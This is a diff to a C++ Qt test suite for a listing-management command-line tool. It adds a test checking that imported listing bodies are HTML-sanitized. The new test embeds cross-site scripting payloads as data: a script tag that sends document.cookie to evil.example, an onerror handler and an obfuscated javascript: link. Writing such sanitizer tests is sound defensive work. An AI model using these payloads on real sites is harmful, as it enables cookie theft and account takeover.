@@ -121,6 +121,9 @@ const QString titleC = u"九成新笔记本电脑转让"_s;
 // everything a CSV writer and reader can get wrong.
 const QString bodyA = u"<p>南北通透, 家电齐全，\"精装修\"</p>\n<p>月租1200元\r\n押一付三</p>"
                       u"<p>&amp; 水电自理, \"\"双引号\"\"</p>"_s;
+// What the library holds after the import: the body as the HTML sanitizer
+// wrote it, and an HTML parser reads CR LF as LF (as browsers do).
+const QString storedBodyA = QString(bodyA).replace(u"\r\n"_s, u"\n"_s);
 
 // What a user writes: an upper-case uuid, a uuid in braces, a city given by
 // its unambiguous name (太原), a listing without uuid, contact or price.
@@ -172,7 +175,7 @@ QHash<QString, QJsonObject> expectedListings()
                                 {u"title"_s, titleA},
                                 {u"category"_s, u"房产/租房"_s},
                                 {u"cities"_s, QJsonArray{u"140400"_s, u"140100"_s}},
-                                {u"body_html"_s, bodyA},
+                                {u"body_html"_s, storedBodyA},
                                 {u"price"_s, 1200.5},
                                 {u"contact"_s, QJsonObject{{u"name"_s, u"王先生"_s},
                                                            {u"phone"_s, u"13800001201"_s},
@@ -390,6 +393,7 @@ private slots:
     void language();
 
     void importJsonIntoNewLibrary();
+    void importSanitizesBodies();
     void listText();
     void listJson();
     void show();
@@ -561,7 +565,7 @@ void CliTest::importJsonIntoNewLibrary()
     auto a = library.listings().loadByUuid(uuidA);
     QVERIFY(a.ok());
     QCOMPARE(a.value().title, titleA);
-    QCOMPARE(a.value().bodyHtml, bodyA);
+    QCOMPARE(a.value().bodyHtml, storedBodyA);
     QCOMPARE(a.value().categoryPath, u"房产/租房"_s);
     QCOMPARE(a.value().cityCodes, QStringList({u"140400"_s, u"140100"_s}));
     QCOMPARE(a.value().price, std::optional<double>(1200.5));
@@ -576,6 +580,52 @@ void CliTest::importJsonIntoNewLibrary()
     QCOMPARE(b.value().status, ListingStatus::Draft);
     QVERIFY(!b.value().promoted);
     QCOMPARE(b.value().price, std::optional<double>(6500));
+}
+
+void CliTest::importSanitizesBodies()
+{
+    // listingdesk-cli import stores what the sanitizer makes of a hostile
+    // body; title, price, contact, cities and status arrive untouched.
+    QTemporaryDir dir;
+    QVERIFY(dir.isValid());
+    const QString db = dir.filePath(u"library.sqlite"_s);
+    const QString json = dir.filePath(u"hostile.json"_s);
+    const QString uuid = u"0b5e7e7e-1111-4222-8333-444455556666"_s;
+    const QJsonArray records{QJsonObject{
+        {u"uuid"_s, uuid},
+        {u"title"_s, u"太原精装一室出租"_s},
+        {u"category"_s, u"房产/租房"_s},
+        {u"cities"_s, QJsonArray{u"140100"_s}},
+        {u"body_html"_s, u"<p>拎包入住<script>fetch('//evil.example/'+document.cookie)</script></p>"
+                         u"<img src=\"ldmedia:abc\" onerror=\"alert(1)\">"
+                         u"<p><a href=\" JaVa&#09;script:alert(2)\">联系</a></p>"_s},
+        {u"price"_s, 900},
+        {u"contact"_s, QJsonObject{{u"name"_s, u"李女士"_s}, {u"phone"_s, u"13700000000"_s}}},
+        {u"status"_s, u"ready"_s},
+    }};
+    QVERIFY(writeFile(json, QJsonDocument(records).toJson()));
+    RUN_CLI(run, {u"--db"_s, db, u"import"_s, json});
+    EXPECT_EXIT(run, 0);
+    EXPECT_CONTAINS(run.out, u"1 new, 0 updated"_s, run);
+
+    Library library;
+    QVERIFY(library.open(db).ok());
+    auto stored = library.listings().loadByUuid(uuid);
+    QVERIFY(stored.ok());
+    const Listing &l = stored.value();
+    QCOMPARE(l.bodyHtml, u"<p>拎包入住</p><img src=\"ldmedia:abc\"><p>联系</p>"_s);
+    QCOMPARE(l.title, u"太原精装一室出租"_s);
+    QCOMPARE(l.categoryPath, u"房产/租房"_s);
+    QCOMPARE(l.cityCodes, QStringList{u"140100"_s});
+    QCOMPARE(l.price, std::optional<double>(900));
+    QCOMPARE(l.contact, (Contact{u"李女士"_s, u"13700000000"_s, QString()}));
+    QCOMPARE(l.status, ListingStatus::Ready);
+
+    // and show / list --json print the clean body too
+    RUN_CLI(shown, {u"--db"_s, db, u"list"_s, u"--json"_s});
+    EXPECT_EXIT(shown, 0);
+    QVERIFY2(!shown.out.contains(u"script"_s) && !shown.out.contains(u"onerror"_s),
+             qPrintable(shown.describe()));
 }
 
 void CliTest::listText()
@@ -949,7 +999,7 @@ void CliTest::exportRoundTrip()
         // Quoted as RFC 4180 says: doubled quotes, line breaks inside quotes.
         const QString text = QString::fromUtf8(bytes);
         QVERIFY2(text.startsWith(u"uuid,title,category,cities,body_html,"_s), qPrintable(text));
-        EXPECT_CONTAINS(text, csvQuoted(bodyA), exported);
+        EXPECT_CONTAINS(text, csvQuoted(storedBodyA), exported);
         EXPECT_CONTAINS(text, u"140400;140100"_s, exported);
     }
 
@@ -976,7 +1026,7 @@ void CliTest::exportRoundTrip()
         QVERIFY2(copy.value(it.key()) == it.value(),
                  qPrintable(u"original:\n"_s + jsonText(it.value()) +
                             u"\nafter the round trip:\n"_s + jsonText(copy.value(it.key()))));
-    QCOMPARE(copy.value(uuidA).value(u"body_html"_s).toString(), bodyA);
+    QCOMPARE(copy.value(uuidA).value(u"body_html"_s).toString(), storedBodyA);
 }
 
 void CliTest::reimportUpdatesWithoutDuplicates_data()
